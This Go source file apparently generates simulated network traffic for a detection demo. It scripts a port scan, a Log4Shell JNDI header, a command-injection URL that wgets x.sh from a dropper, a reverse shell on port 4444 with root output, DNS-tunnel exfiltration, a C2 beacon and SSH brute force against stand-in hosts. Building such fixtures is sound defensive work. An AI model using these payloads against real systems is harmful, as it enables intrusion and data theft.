package demo

import (
	"encoding/base32"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"mirador/internal/packet"
)

// portScan tries many ports of the web server; nearly all are closed.
func (s *script) portScan() error {
	c := s.cast
	for i, port := range s.rnd.Perm(1000)[:60] {
		x := &conn{s: s, end: [2]*host{c.scanner, c.web}, port: [2]uint16{s.ephemeral(), uint16(port + 1)},
			seq: [2]uint32{s.rnd.Uint32(), 0}, rtt: time.Millisecond}
		x.segment(0, packet.SYN, nil, nil)
		if i%9 != 0 { // the others are dropped by a security group
			x.reset()
		}
	}
	return nil
}

// exploit sends a lookup that makes an old log library load foreign code, and a shell
// command in a parameter.
func (s *script) exploit() error {
	c := s.cast
	x := s.dial(c.attacker, c.web, 80)
	x.toServer(request("GET", "/login", "www.demo.example", browser, "X-Api-Version: ${jndi:ldap://"+ipText(c.dropper)+":1389/a}\r\n", ""))
	x.toClient(response("200 OK", "text/html", "<html>login</html>"))
	x.toServer(request("GET", "/cgi-bin/status?host=127.0.0.1;wget%20http://"+ipText(c.dropper)+"/x.sh", "www.demo.example", browser, "", ""))
	x.toClient(response("500 Internal Server Error", "text/html", "<html>oops</html>"))
	x.close()
	return nil
}

// malwareAgent is the web server fetching the next stage with the dropper's own agent.
func (s *script) malwareAgent() error {
	c := s.cast
	x := s.dial(c.web, c.dropper, 80)
	x.toServer(request("GET", "/x.sh", ipText(c.dropper), "NightHeron/1.7 (dropper)", "", ""))
	x.toClient(response("200 OK", "application/x-sh", "#!/bin/sh\nexec /tmp/.nh\n"))
	x.close()
	return nil
}

// reverseShell is the application server calling out, and a shell at its end.
func (s *script) reverseShell() error {
	c := s.cast
	x := s.dial(c.app, c.attacker, 4444)
	x.toServer("bash: cannot set terminal process group (811): Inappropriate ioctl for device\nbash: no job control in this shell\nroot@app-1:/# ")
	for _, cmd := range [...][2]string{
		{"id\n", "uid=0(root) gid=0(root) groups=0(root)\nroot@app-1:/# "},
		{"cat /etc/hostname\n", "app-1\nroot@app-1:/# "},
	} {
		x.toClient(cmd[0])
		s.pause(50 * time.Millisecond)
		x.toServer(cmd[1])
	}
	x.close()
	return nil
}

// dnsTunnel carries data out in the labels of queries.
func (s *script) dnsTunnel() error {
	enc := base32.StdEncoding.WithPadding(base32.NoPadding)
	for i := range 40 {
		secret := make([]byte, 30)
		for j := range secret {
			secret[j] = byte(s.rnd.Uint32())
		}
		label := strings.ToLower(enc.EncodeToString(secret))
		name := fmt.Sprintf("%s.%02d.t.heron-dns.example.", label, i)
		if err := s.resolve(s.cast.app, name, dnsmessage.TypeTXT, &dnsmessage.TXTResource{TXT: []string{"ok"}}); err != nil {
			return err
		}
	}
	return nil
}

// beacon is the malware calling home with a TLS client that is known by its JA3.
func (s *script) beacon() error {
	const name = "cdn-static.demo.example"
	t, err := helloDialogue(name, "Static Content Example", beaconHello(name))
	if err != nil {
		return err
	}
	x := s.dial(s.cast.app, s.cast.c2, 443)
	x.replay(t)
	x.close()
	return nil
}

// badName is an ordinary TLS client that asks for a name that is known to be bad.
func (s *script) badName() error {
	const name = "panel.heron-c2.example"
	t, err := tlsDialogue(name, "Internet Widgits Pty Ltd", 0x0303, request("POST", "/gate", name, "x", "", "id=17"), response("200 OK", "text/plain", "ok"))
	if err != nil {
		return err
	}
	x := s.dial(s.cast.web, s.cast.c2, 443)
	x.replay(t)
	x.close()
	return nil
}

// bruteForce tries passwords at the bastion, in one connection after the other.
func (s *script) bruteForce() error {
	for range 10 {
		t, err := sshDialogue("SSH-2.0-libssh2_1.4.3", "right", "root", "admin", "123456")
		if err != nil {
			return err
		}
		x := s.dial(s.cast.attacker, s.cast.bastion, 22)
		x.replay(t)
		x.close()
	}
	return nil
}

func ipText(h *host) string { return fmt.Sprintf("%d.%d.%d.%d", h.ip[0], h.ip[1], h.ip[2], h.ip[3]) }
